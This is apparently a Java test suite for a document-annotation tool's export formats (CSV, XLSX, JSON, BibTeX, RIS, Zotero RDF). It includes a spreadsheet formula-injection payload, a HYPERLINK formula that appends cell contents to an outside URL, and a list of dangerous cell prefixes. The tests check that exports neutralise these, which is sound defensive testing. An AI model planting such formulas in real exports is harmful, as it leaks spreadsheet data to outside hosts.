package org.postil.exports;

import static org.assertj.core.api.Assertions.assertThat;
import static org.postil.world.World.Person.EDIT;
import static org.postil.world.World.Person.MAREK;
import static org.postil.world.World.Person.TAMAS;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import jakarta.inject.Inject;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.jsoup.Jsoup;
import org.jsoup.parser.Parser;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.postil.documents.DocumentView;
import org.postil.world.World;

/** Notes as rows, and documents for reference managers. */
@QuarkusTest
class TableFormatsTest {
    private static final String FORMULA = "=HYPERLINK(\"https://example.org/?\"&A1; \"here\")";

    @Inject
    World world;

    private DocumentView ferries;

    @BeforeEach
    void aTelegramWithANoteAndAnAnswer() {
        ferries = world.telegram(
                "=Ferries " + UUID.randomUUID(),
                "<p>The ferries, “all” of them, run again; nobody crosses at night.</p>");
        String note = new ExportHands(world, MAREK)
                .note(ferries, "“all” of them", FORMULA, List.of("crossings", "night, late"));
        new ExportHands(world, EDIT).reply(note, "-1 day,\nor {two} \"days\"");
    }

    private String text(String format) {
        return new ExportHands(world, TAMAS).text(ferries.slug(), format);
    }

    @Test
    void aTableHasARowForEachNoteAndAnswer() throws IOException {
        String csv = text("csv");
        assertThat(csv).startsWith("\ufeff");
        List<CSVRecord> rows = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(csv.substring(1)))
                .getRecords();

        assertThat(rows).hasSize(2);
        assertThat(rows.get(0).get("passage")).isEqualTo("“all” of them");
        assertThat(rows.get(0).get("before")).endsWith("The ferries, ");
        assertThat(rows.get(0).get("tags")).isEqualTo("crossings; night, late");
        assertThat(rows.get(0).get("creators")).isEqualTo("Yuri Andropov");
        assertThat(rows.get(0).get("citation")).startsWith("Yuri Andropov");
        assertThat(rows.get(1).get("in_reply_to")).isEqualTo(rows.get(0).get("id"));
        assertThat(rows.get(1).get("author")).isEqualTo("Edit Vajda");
    }

    @Test
    void noCellIsAFormula() throws IOException {
        var rows = CSVFormat.RFC4180
                .parse(new StringReader(text("csv").substring(1)))
                .getRecords();
        for (CSVRecord row : rows) {
            assertThat(row)
                    .allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("-"));
        }
        assertThat(rows.get(1)).contains("'" + FORMULA, "'" + ferries.title());
        for (String dangerous : List.of("=1", "+1", "-1", "@x", "\t=1", "\r=1")) {
            assertThat(TableFormat.harmless(dangerous)).isEqualTo("'" + dangerous);
        }
        assertThat(TableFormat.harmless("1956")).isEqualTo("1956");
    }

    @Test
    void aWorkbookHoldsTheSameAsTextInItsCells() throws IOException {
        var parts = ExportHands.entries(new ExportHands(world, TAMAS).document(ferries.slug(), "xlsx"));
        var sheet = Jsoup.parse(parts.get("xl/worksheets/sheet1.xml"), "", Parser.xmlParser());

        assertThat(sheet.select("row")).hasSize(3);
        assertThat(sheet.select("row").get(0).select("t").eachText()).isEqualTo(TableFormat.COLUMNS);
        assertThat(sheet.select("f")).isEmpty();
        assertThat(sheet.select("c[t]")).allMatch(cell -> cell.attr("t").equals("inlineStr"));
        assertThat(sheet.select("t").eachText()).contains("'" + FORMULA);
    }

    @Test
    void jsonHasTheNotesAsTheApiGivesThem() {
        var json = JsonPath.from(text("json"));
        assertThat(json.getString("items[0].note.body")).isEqualTo(FORMULA);
        assertThat(json.getString("items[0].note.target.exact")).isEqualTo("“all” of them");
        assertThat(json.getString("items[0].document.slug")).isEqualTo(ferries.slug());
        assertThat(json.getList("items[0].replies")).hasSize(1);
        assertThat(json.getString("items[0].note.permalink")).startsWith("http");
        assertThat(json.getList("bibliography")).hasSize(1);
    }

    @Test
    void jsonHasOnlyThePartsThatWereAskedFor() {
        var json = JsonPath.from(new String(
                new ExportHands(world, TAMAS)
                        .file(Map.of(
                                "what",
                                "document",
                                "query",
                                ferries.slug(),
                                "format",
                                "json",
                                "parts",
                                List.of("replies"))),
                StandardCharsets.UTF_8));
        assertThat(json.getMap("items[0].note"))
                .containsKeys("id", "author", "anchor", "permalink")
                .doesNotContainKeys("body", "tags");
        assertThat(json.getMap("items[0].note.target"))
                .containsKeys("text", "start", "end")
                .doesNotContainKeys("exact", "prefix", "suffix");
        assertThat(json.getString("items[0].replies[0].body")).startsWith("-1 day");
        assertThat(json.getMap("items[0]")).doesNotContainKey("citation");
    }

    @Test
    void referencesBringTheNotesAlong() {
        assertThat(text("bibtex"))
                .startsWith("@misc{" + ferries.slug() + ",")
                .contains("annote = {““all” of them”", "\\{two\\}");
        assertThat(text("biblatex"))
                .startsWith("@letter{")
                .contains("date = {1956-10-28}", "annotation = {")
                .doesNotContain("year =");
        assertThat(text("ris").lines().filter(line -> line.startsWith("N1  - ") && line.contains("Marek Brandt")))
                .hasSize(1);
        assertThat(text("ris")).startsWith("TY  - PCOMM\r\n").endsWith("ER  - \r\n");
        var json = JsonPath.from(text("csl-json"));
        assertThat(json.getString("[0].annote")).contains("“all” of them", "Edit Vajda");
    }

    @Test
    void zoteroGetsEachNoteAsANoteOfItsDocument() {
        var rdf = Jsoup.parse(text("zotero-rdf"), "", Parser.xmlParser());
        assertThat(rdf.select("rdf|RDF > rdf|Description z|itemType").text()).isEqualTo("letter");
        var memos = rdf.select("rdf|RDF > bib|Memo");
        assertThat(memos.eachAttr("rdf:about"))
                .hasSize(rdf.select("dcterms|isReferencedBy").size())
                .containsExactlyElementsOf(rdf.select("dcterms|isReferencedBy").eachAttr("rdf:resource"));
        assertThat(memos.text()).contains("“all” of them", "Marek Brandt", "Edit Vajda");
        assertThat(text("zotero-rdf")).endsWith("</rdf:RDF>\n");
    }

    @Test
    void documentsWithoutNotesAreReferencesAllTheSame() {
        var bare = world.telegram("Bare " + UUID.randomUUID(), "<p>Nothing.</p>");
        assertThat(new String(new ExportHands(world, TAMAS).document(bare.slug(), "bibtex"), StandardCharsets.UTF_8))
                .contains(bare.slug());
    }
}
